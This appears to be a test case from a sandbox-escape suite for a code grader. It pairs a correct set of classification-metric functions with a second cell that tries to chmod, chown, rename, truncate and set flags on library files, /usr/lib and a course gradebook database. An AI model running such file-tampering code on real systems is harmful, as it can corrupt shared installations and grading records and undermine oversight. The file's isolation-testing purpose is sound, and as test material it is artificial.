# id: f04_metadata / gain: the installation is changed for the next / detect: METADATA-CHANGED; a changed hash
# desc: change modes, owners, times and attributes of files outside, by path and by descriptor
# category: persist-escape | kind: cells | base: good
# expect: verdict is this submission's own; neighbours keep full points
# %%
# CORRECT solution: everything that goes wrong below is the attack, not the answer
import numpy as np
def _c(y_true, y_pred):
    t, p = np.asarray(y_true) == 1, np.asarray(y_pred) == 1
    return int((t & p).sum()), int((~t & p).sum()), int((t & ~p).sum())
def accuracy(y_true, y_pred): return float(np.mean(np.asarray(y_true) == np.asarray(y_pred)))
def precision(y_true, y_pred):
    tp, fp, fn = _c(y_true, y_pred); return tp / (tp + fp) if tp + fp else 0.0
def recall(y_true, y_pred):
    tp, fp, fn = _c(y_true, y_pred); return tp / (tp + fn) if tp + fn else 0.0
def f1(y_true, y_pred):
    p, r = precision(y_true, y_pred), recall(y_true, y_pred); return 2 * p * r / (p + r) if p + r else 0.0
def train_model(X_train, y_train):
    from sklearn.linear_model import LogisticRegression
    return LogisticRegression(max_iter=1000).fit(X_train, y_train)
# %%
import ctypes, os, sys
import numpy as np
libc = ctypes.CDLL(None, use_errno=True)
for p in (np.__file__, os.path.dirname(np.__file__), os.__file__, "/usr/lib", "@COURSE@", "@COURSE@/gradebook.db", "/tmp", "/dev/null", "."):
    for name, f in (("chmod", lambda: os.chmod(p, 0o777)), ("fchmod", lambda: os.fchmod(os.open(p, os.O_RDONLY), 0o777)), ("chown", lambda: os.chown(p, os.getuid(), -1)), ("utime", lambda: os.utime(p)), ("futimens", lambda: os.utime(os.open(p, os.O_RDONLY))), ("setxattr", lambda: os.setxattr(p, "user.x", b"1")), ("removexattr", lambda: os.removexattr(p, "user.x")), ("rename", lambda: os.rename(p, p + "2")), ("link", lambda: os.link(p, "l")), ("truncate", lambda: os.truncate(p, 0)), ("O_TRUNC", lambda: os.open(p, os.O_RDONLY | os.O_TRUNC)), ("flags", lambda: __import__("fcntl").ioctl(os.open(p, os.O_RDONLY), 0x40086602, b"\0" * 8))):
        if p in (".", "/tmp", "/dev/null"): continue
        try: f(); print("METADATA" + "-CHANGED", name, p)
        except OSError as e: pass
